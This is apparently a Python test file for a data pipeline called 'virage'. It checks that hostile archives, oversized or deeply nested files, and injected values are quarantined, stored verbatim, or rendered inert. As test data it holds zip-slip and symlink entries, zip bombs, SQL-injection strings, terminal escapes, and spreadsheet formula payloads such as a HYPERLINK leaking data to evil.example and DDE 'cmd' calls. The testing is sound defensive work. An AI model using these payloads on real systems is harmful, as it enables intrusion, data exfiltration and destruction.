"""Hostile input through a whole night, on SQLite and PostgreSQL: unsafe and bombed
archives, files over the size cap, JSON nested to blow the stack, spreadsheet
formulas and SQL in names, ids, handles and texts. Every hostile file is held back
with its reason, every hostile value is stored verbatim and nothing runs: no SQL,
no formula in the CSV output, no markup in the HTML report or the terminal.

The parsers' own safety tests are in tests/test_formats.py (archive rules, one by
one) and tests/test_parsers_property.py (random bytes and shapes into every reader);
role names in tests/test_bi_role.py."""

from __future__ import annotations

import ast
import csv
import html
import io
import json
import os
import zipfile
from pathlib import Path

import pandas as pd
import pytest
from sqlalchemy import inspect

from tests.reliability.common import read_table
from tests.test_cli import assert_one_clear_line, virage
from tests.worlds import AS_OF, write_world
from virage.flows.nightly import nightly_scores
from virage.leaderboard import FORMULA_STARTS
from virage.schemas.fields import POSTS, SCORES
from virage.schemas.warehouse import metadata
from virage.warehouse import make_engine

pytestmark = pytest.mark.flow

ROOT = Path(__file__).resolve().parents[2]
CAP = 4 * 1024**2
"""The size cap the test sets (VIRAGE_MAX_FILE_BYTES): the real one is 512 MiB."""

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]
SQL = "'; DROP TABLE posts;--"
# (person_id, display_name, department, platform, handle as written in the roster)
HOSTILE_PEOPLE = [
    (SQL, FORMULAS[0], FORMULAS[3], "instagram", "@Robert'); DROP TABLE people;--"),
    (
        "o'brien\\\"; DELETE FROM influence_scores WHERE ''='",
        FORMULAS[1],
        "-",
        "tiktok",
        "@zoë\\'x\"--😀",
    ),
    (
        "ünïcødé-😀",
        "[link=http://e.vil]Zoé[/link]\x1b]0;pwned\x07",
        FORMULAS[2],
        "x",
        "@bobby\\tables",
    ),
]
TEXTS = [
    f"{FORMULAS[0]} vélo électrique",
    f"{FORMULAS[1]} #VeloUrbain",
    f"{FORMULAS[2]} e-bike",
    f"{FORMULAS[3]} piste cyclable",
    "l'été'); DROP TABLE accounts;-- vélo électrique",
    "C:\\new\\table \\' \\\" e-bike",
]


def zip_bytes(entries: dict[str | zipfile.ZipInfo, bytes | str]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in entries.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def link_entry(name: str) -> zipfile.ZipInfo:
    info = zipfile.ZipInfo(name)
    info.external_attr = (0o120777) << 16  # S_IFLNK
    return info


INSTAGRAM_POSTS = "your_instagram_activity/content/posts_1.json"
GOOD_POSTS = json.dumps(
    [{"media": [{"uri": "media/1_17000000000000001.jpg", "creation_timestamp": 1, "title": "a"}]}]
)


def write_hostile_landing(root: Path) -> dict[str, str]:
    """The persona world, plus hostile people, posts and files; {file: rule expected}."""
    landing = write_world(root)
    exports = landing / "exports"
    roster = pd.read_csv(landing / "roster.csv", dtype="str", keep_default_na=False)
    extra = pd.DataFrame(
        [
            {
                "person_id": pid,
                "display_name": name,
                "role": "influencer",
                "consent": "true",
                "department": dept,
                platform: handle,
            }
            for pid, name, dept, platform, handle in HOSTILE_PEOPLE
        ]
    )
    pd.concat([roster, extra], ignore_index=True).fillna("").to_csv(
        landing / "roster.csv", index=False
    )
    when = pd.Timestamp(AS_OF, tz="UTC") - pd.Timedelta(days=1)
    posts = pd.DataFrame(
        [
            {
                "platform": platform,
                "handle": handle,
                "post_id": f"{k}'; DROP TABLE accounts;--",
                "posted_at": (when - pd.Timedelta(hours=k)).isoformat(),
                "text": text,
                "url": "",
                "impressions": "",
                "likes": 50 + k,
                "comments": 2,
                "shares": 1,
                "clicks": "",
            }
            for k, (text, (_, _, _, platform, handle)) in enumerate(
                zip(TEXTS, HOSTILE_PEOPLE * 2, strict=True)
            )
        ]
    )
    # A bad row of a scored person keeps its excerpt in the quarantine: a formula too.
    bad = posts.iloc[[0]].assign(post_id="bad-row", likes="-5")
    pd.concat([posts, bad])[POSTS.exchange_header].to_csv(
        exports / "hostile.posts.csv", index=False
    )

    eve = exports / "instagram" / "eve"
    eve.mkdir(parents=True)
    expected = {}

    def put(name: str, content: bytes, rule: str, entry: str | None = None) -> None:
        (eve / name).write_bytes(content)
        expected[f"exports/instagram/eve/{name}" + (f"!{entry}" if entry else "")] = rule

    put(
        "traversal.zip",
        zip_bytes({INSTAGRAM_POSTS: GOOD_POSTS, "../../evil.json": "[]"}),
        "unsafe_archive",
    )
    put(
        "absolute.zip",
        zip_bytes({INSTAGRAM_POSTS: GOOD_POSTS, "/tmp/evil.json": "[]"}),
        "unsafe_archive",
    )
    put(
        "link.zip",
        zip_bytes({INSTAGRAM_POSTS: GOOD_POSTS, link_entry("evil.json"): "/etc"}),
        "unsafe_archive",
    )
    # A zip bomb within the size cap (3 MiB from a few KiB), and an entry over the cap
    # that compresses like real text.
    bomb = "[" + " " * (3 * 1024**2) + "]"
    put("bomb.zip", zip_bytes({INSTAGRAM_POSTS: bomb}), "unsafe_archive", INSTAGRAM_POSTS)
    big = json.dumps([{"title": os.urandom(CAP // 2).hex()}])
    put("big.zip", zip_bytes({INSTAGRAM_POSTS: big}), "file_too_large", INSTAGRAM_POSTS)
    # JSON nested past the interpreter's stack, and nested just enough to break pandas.
    (eve / "deep").mkdir()
    put("deep/posts_1.json", ("[" * 100_000 + "]" * 100_000).encode(), "unreadable_json")
    shallow = '{"a":' * 500 + "1" + "}" * 500
    nested = f'[{{"media": [{{"uri": "x_1.jpg", "creation_timestamp": 1, "title": {shallow}}}]}}]'
    (eve / "nested").mkdir()
    put("nested/posts_1.json", nested.encode(), "unreadable_json")
    # Over the cap and not a single newline, loose: as an exchange file and an export.
    put("huge.posts.csv", b"A" * (CAP + 1), "file_too_large")
    put("followers_1.json", b"[" + b" " * CAP + b"]", "file_too_large")
    # A link under exports/ pointing out of the landing zone.
    (eve / "passwd.posts.csv").symlink_to("/etc/passwd")
    expected["exports/instagram/eve/passwd.posts.csv"] = "link"
    return expected


def scores_output(warehouse: str, fmt: str) -> str:
    result = virage("scores", "--warehouse", warehouse, "--format", fmt)
    assert result.returncode == 0, result.stderr
    return result.stdout


def test_hostile_files_are_held_back_and_hostile_values_stored_verbatim_and_inert(
    prefect_api_url, warehouse, tmp_path, monkeypatch
):
    monkeypatch.setenv("VIRAGE_MAX_FILE_BYTES", str(CAP))
    landing = tmp_path / "landing"
    expected = write_hostile_landing(landing)
    summary = nightly_scores(landing=str(landing), warehouse_url=warehouse, as_of=AS_OF)

    # Every hostile file is held back with its reason; nothing was extracted anywhere.
    quarantine = read_table(warehouse, "quarantine")
    whole = quarantine[quarantine["row_number"].isna()]
    found = dict(zip(whole["source_file"], whole["rule"], strict=True))
    assert {k: found.get(k) for k in expected} == expected
    details = dict(zip(whole["source_file"], whole["detail"], strict=True))
    assert "zip bomb" in details[f"exports/instagram/eve/bomb.zip!{INSTAGRAM_POSTS}"]
    assert "VIRAGE_MAX_FILE_BYTES" in details["exports/instagram/eve/huge.posts.csv"]
    assert not [p for p in tmp_path.rglob("evil.json")]
    assert summary["files_quarantined"] >= len(expected)

    # Nothing ran: every table is still there, every hostile value is stored verbatim.
    tables = set(inspect(make_engine(warehouse)).get_table_names())
    assert {t.name for t in metadata.sorted_tables} <= tables
    people = read_table(warehouse, "people").set_index("person_id")
    for pid, name, dept, _, _ in HOSTILE_PEOPLE:
        assert (people.loc[pid, "display_name"], people.loc[pid, "department"]) == (name, dept)
    posts = read_table(warehouse, "posts")
    hostile_posts = posts[posts["post_id"].str.endswith("'; DROP TABLE accounts;--")]
    assert sorted(hostile_posts["text"]) == sorted(TEXTS)
    handles = {h.lstrip("@").lower() for *_, h in HOSTILE_PEOPLE}
    assert set(hostile_posts["handle"]) == handles
    assert set(hostile_posts["person_id"]) == {p[0] for p in HOSTILE_PEOPLE}
    scores = read_table(warehouse, "influence_scores")
    assert {p[0] for p in HOSTILE_PEOPLE} <= set(scores["person_id"])
    assert len(read_table(warehouse, "accounts")) and len(scores)
    excerpt = quarantine.loc[quarantine["row_number"].notna(), "excerpt"].dropna()
    assert excerpt.str.contains(FORMULAS[0], regex=False).any()  # kept verbatim, too

    # The HTML report shows them as text: escaped, no element or link of theirs.
    pages = "".join(p.read_text() for p in (landing / "report").glob("*.html"))
    for _, name, *_ in HOSTILE_PEOPLE:
        assert html.escape(name, quote=True) in pages or html.escape(name) in pages
    assert html.escape(FORMULAS[0], quote=True) in pages  # the quarantine's excerpt
    assert 'href="http://evil' not in pages and "http://e.vil" not in pages.replace(
        html.escape("[link=http://e.vil]"), ""
    )

    # The CSV for spreadsheets: no text cell starts a formula; values otherwise intact.
    rows = list(csv.DictReader(io.StringIO(scores_output(warehouse, "csv"))))
    numeric = {  # from the scores' contract: numbers are not text cells
        c
        for c, dtype in SCORES.dtypes.items()
        if pd.api.types.is_numeric_dtype(pd.Series(dtype=dtype))
    }
    for row in rows:
        for column, value in row.items():
            if column not in numeric:
                assert not value.startswith(FORMULA_STARTS), (column, value)
    shown = {(r["person_id"], r["display_name"]) for r in rows}
    assert (SQL, "'" + FORMULAS[0]) in shown  # a quote already starts the id: inert
    # JSON keeps the data exactly as stored.
    records = json.loads(scores_output(warehouse, "json"))
    assert {r["display_name"] for r in records} >= {p[1] for p in HOSTILE_PEOPLE}
    # The terminal table shows markup as text and no escape sequence gets through.
    table = scores_output(warehouse, "table")
    assert "\x1b" not in table and "\x07" not in table
    assert "[link=http://" in table  # as text (cut to the column), not a link


def test_sql_in_a_campaign_id_is_refused_before_anything_runs(world, tmp_path):
    campaigns = world / "campaigns.yaml"
    campaigns.write_text(campaigns.read_text().replace("id: velo", f'id: "velo{SQL}"', 1))
    warehouse = tmp_path / "warehouse.db"
    result = virage("run", "--landing", str(world), "--warehouse", f"sqlite:///{warehouse}")
    assert_one_clear_line(result, "campaigns.yaml: campaign #1")
    assert "id: String should match pattern" in result.stderr
    assert not warehouse.exists()


# --- identifiers in SQL text ------------------------------------------------------

PRODUCT = ["virage", "tasks", "flows", "schemas"]
VETTED = {
    # identifiers quoted by the dialect (identifier_preparer.quote); role names are
    # also checked against a plain-identifier pattern (virage/bi.py)
    "quote(role)",
    "quote(database)",
    "quote(schema)",
    "quote(table.name)",
    "quote(column.name)",
    "quote(index['name'])",
    "quote(key_name)",
    "quote(old)",
    "quote(view.name)",
    "quote(name)",
    # names and clauses already built from quoted names of our own schema
    "name",
    "names",
    "target",
    "keys",
    "sets",
    "changed",
    "marks",
    "stage.name",
    # our own SQL: compiled view queries, a compiled column type, constants
    "sql",
    "kind",
    "WRITER_LOCK_KEY",
    "can_login",
    "' LOGIN' if login else ''",
    # escaped string literals (CREATE ROLE and COMMENT take no bind parameter)
    "secret",
    "text(view.grain)",
    "text(view.doc(column.name))",
}
"""Every expression interpolated into SQL text by the product, checked by hand: each
is a quoted identifier, or SQL built from our own schema, or an escaped literal."""


def test_every_value_interpolated_into_sql_text_is_vetted():
    """No user value reaches SQL text: values are bound parameters, and the few
    f-strings of SQL interpolate only quoted identifiers or our own SQL. A new
    interpolation fails here until someone checks it and adds it to VETTED."""
    unvetted = []
    for folder in PRODUCT:
        for path in sorted((ROOT / folder).rglob("*.py")):
            tree = ast.parse(path.read_text(encoding="utf-8"))
            for node in ast.walk(tree):
                if not isinstance(node, ast.Call) or not node.args:
                    continue
                called = ast.unparse(node.func)
                if not called.endswith(("exec_driver_sql", "execute", "text", "copy")):
                    continue
                sql = node.args[0]
                if not isinstance(sql, ast.JoinedStr):
                    continue
                for part in ast.walk(sql):
                    if isinstance(part, ast.FormattedValue):
                        expression = ast.unparse(part.value)
                        if expression not in VETTED:
                            where = f"{path.relative_to(ROOT)}:{node.lineno}"
                            unvetted.append(f"{where}: {{{expression}}}")
    assert not unvetted, "SQL text built from unvetted values:\n" + "\n".join(unvetted)


# --- the real caps (make soak) ------------------------------------------------------


@pytest.mark.soak
def test_the_real_caps_hold_without_reading_the_file(tmp_path, monkeypatch):
    """At the default cap (512 MiB): a loose file one byte over it, without a single
    newline, and zip entries that expand past it or a thousand to one, are held back
    without being read into memory."""
    import resource

    from virage.tasks.ingest import MAX_FILE_BYTES, discover_exports, parse_exports

    monkeypatch.delenv("VIRAGE_MAX_FILE_BYTES", raising=False)
    exports = tmp_path / "exports" / "instagram" / "eve"
    exports.mkdir(parents=True)
    with open(exports / "huge.posts.csv", "wb") as handle:
        block = b"A" * (1 << 20)
        for _ in range(MAX_FILE_BYTES // len(block)):
            handle.write(block)
        handle.write(b"A")
    zeros = b"\0" * (1 << 20)
    for name, mib in (("over-cap.zip", 600), ("bomb.zip", 100)):
        with (
            zipfile.ZipFile(exports / name, "w", zipfile.ZIP_DEFLATED) as archive,
            archive.open(INSTAGRAM_POSTS, "w", force_zip64=True) as entry,
        ):
            for _ in range(mib):
                entry.write(zeros)
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    parsed = parse_exports(discover_exports(tmp_path / "exports", tmp_path))
    grown_mib = (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before) / 1024
    rejected = parsed.rejected_files
    rules = dict(zip(rejected["source_file"], rejected["rule"], strict=True))
    assert rules == {
        "exports/instagram/eve/huge.posts.csv": "file_too_large",
        f"exports/instagram/eve/over-cap.zip!{INSTAGRAM_POSTS}": "file_too_large",
        f"exports/instagram/eve/bomb.zip!{INSTAGRAM_POSTS}": "unsafe_archive",
    }
    assert grown_mib < 100, f"reading grew the process by {grown_mib:.0f} MiB"
